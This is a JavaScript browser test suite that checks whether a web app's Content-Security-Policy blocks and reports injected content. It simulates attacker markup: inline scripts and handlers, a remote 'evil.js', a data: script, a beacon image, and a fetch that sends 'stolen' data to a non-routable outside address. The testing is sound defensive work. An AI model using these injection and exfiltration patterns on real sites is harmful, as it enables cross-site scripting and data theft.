// End-to-end: the page's Content-Security-Policy, tested (issue 16). Into the running app —
// served, and `dist/planwork.html` opened from disk — the test injects what an attacker who
// got markup into the page would try: an inline script, an inline event handler, a script
// from another origin and from a `data:` address, an image from another origin and a fetch
// to another origin. Each is blocked (it does not run, nothing is fetched) and reported (a
// `securitypolicyviolation` event naming the directive, and Chromium's console message).
// (`eval` is refused by the same policy, but only a script already running could call it,
// and the test's own evaluation is exempt from the page's policy: it is not tried here.)
//
// PLANWORK_SINGLE names the one-file app (default dist/planwork.html).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { launch, home, baseUrl } from './helpers.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const single = process.env.PLANWORK_SINGLE ?? join(here, '..', '..', 'dist', 'planwork.html');
/** Another origin (TEST-NET-1: nothing answers there, so nothing could load anyway; the
 *  test reads the policy's report, not the network's). */
const ELSEWHERE = 'http://192.0.2.1';

let browser;

before(async () => {
  browser = await launch();
});

after(async () => {
  await browser?.close();
});

/** A page that records policy violations (from its start) and console messages. */
async function recordingPage() {
  const context = await browser.newContext();
  const page = await context.newPage();
  const console = [];
  const errors = [];
  page.on('console', (msg) => console.push(msg.text()));
  page.on('pageerror', (error) => errors.push(error.message));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
  });
  return { context, page, console, errors };
}

/** Tries every injection in `page`; returns what ran or loaded, and what was reported. */
async function inject(page) {
  const outcome = await page.evaluate(async (elsewhere) => {
    window.__ran = [];
    // An inline script, as markup injected into the page would carry.
    const script = document.createElement('script');
    script.textContent = 'window.__ran.push("inline script")';
    document.body.append(script);
    // An inline event handler.
    const handler = document.createElement('div');
    handler.setAttribute('onclick', 'window.__ran.push("inline handler")');
    document.body.append(handler);
    handler.click();
    // Scripts from another origin and from a data: address.
    const loaded = (src) => new Promise((resolve) => {
      const element = document.createElement('script');
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('blocked or failed');
      element.src = src;
      document.body.append(element);
    });
    const scripts = [
      await loaded(`${elsewhere}/evil.js`),
      await loaded('data:text/javascript,window.__ran.push("data: script")'),
    ];
    // An image from another origin (a beacon).
    const image = document.createElement('img');
    const imageDone = new Promise((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('blocked or failed');
    });
    image.src = `${elsewhere}/pixel.png`;
    document.body.append(image);
    // A fetch to another origin (exfiltration).
    let fetched;
    try {
      await fetch(`${elsewhere}/collect`, { method: 'POST', body: 'stolen' });
      fetched = 'sent';
    } catch (error) {
      fetched = error.name;
    }
    const imaged = await imageDone;
    // Violation events are dispatched as tasks: let them all arrive.
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { ran: window.__ran, scripts, imaged, fetched, violations: window.__violations };
  }, ELSEWHERE);
  return outcome;
}

/** The directives a report named, each once. */
const directives = (violations) => [...new Set(violations.map((v) => v.directive))].sort();

function assertBlockedAndReported(outcome, console, expected) {
  assert.deepEqual(outcome.ran, [], 'no injected script ran');
  assert.deepEqual(outcome.scripts, ['blocked or failed', 'blocked or failed']);
  assert.equal(outcome.imaged, 'blocked or failed');
  assert.equal(outcome.fetched, 'TypeError', 'the fetch is refused');
  assert.deepEqual(directives(outcome.violations), expected, JSON.stringify(outcome.violations));
  assert.ok(
    outcome.violations.some((v) => v.directive === 'img-src' && v.blocked === `${ELSEWHERE}/pixel.png`),
    'the image is reported with its address',
  );
  assert.ok(
    outcome.violations.some((v) => v.directive === 'connect-src' && v.blocked.startsWith(ELSEWHERE)),
    'the fetch is reported with its address',
  );
  assert.ok(
    outcome.violations.some((v) => v.directive === 'script-src-elem' && v.blocked === `${ELSEWHERE}/evil.js`),
    'the script from another origin is reported with its address',
  );
  const refused = [
    'inline script', 'inline event handler', `the script '${ELSEWHERE}/evil.js'`,
    `the image '${ELSEWHERE}/pixel.png'`, `Connecting to '${ELSEWHERE}/collect'`,
  ];
  for (const what of refused) {
    assert.ok(
      console.some((text) => text.includes('Content Security Policy') && text.includes(what)),
      `the console names the refusal of ${what}: ${console.join('\n')}`,
    );
  }
}

const EXPECTED = ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem'];

test('served: injected scripts, an image and a fetch to another origin are blocked and reported', async () => {
  const { context, page, console, errors } = await recordingPage();
  await home(page);
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the app itself breaks no rule');
  const outcome = await inject(page);
  assertBlockedAndReported(outcome, console, EXPECTED);
  // The app goes on working.
  await page.locator('#new-program-name').fill('After the attempt');
  await page.locator('form.new-program button[type=submit]').click();
  await page.locator('main[data-view="program"] .plan-grid').waitFor({ timeout: 15_000 });
  assert.deepEqual(errors, []);
  await context.close();
});

test('from disk (planwork.html): the same, under a policy that allows no connection at all', { skip: !existsSync(single) && `no ${single}` }, async () => {
  const { context, page, console, errors } = await recordingPage();
  await page.goto(pathToFileURL(single).href);
  await page.locator('main[data-view="home"] form.new-program').waitFor({ timeout: 20_000 });
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the app itself breaks no rule');
  const outcome = await inject(page);
  assertBlockedAndReported(outcome, console, EXPECTED);
  // Not even a file beside it can be fetched.
  const sibling = await page.evaluate(async () => {
    try {
      await fetch(new URL('index.html', location.href));
      return 'read';
    } catch (error) {
      return error.name;
    }
  });
  assert.equal(sibling, 'TypeError');
  assert.deepEqual(errors, []);
  await context.close();
});

test('the served policy is the one the build wrote', async () => {
  const response = await fetch(baseUrl);
  const html = await response.text();
  const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(policy, 'index.html carries a policy');
  assert.match(policy, /default-src 'self'/);
  assert.doesNotMatch(policy, /script-src[^;]*'unsafe-inline'/, 'no inline script allowed');
  assert.doesNotMatch(policy, /script-src[^;]*'unsafe-eval'/, 'no eval');
});
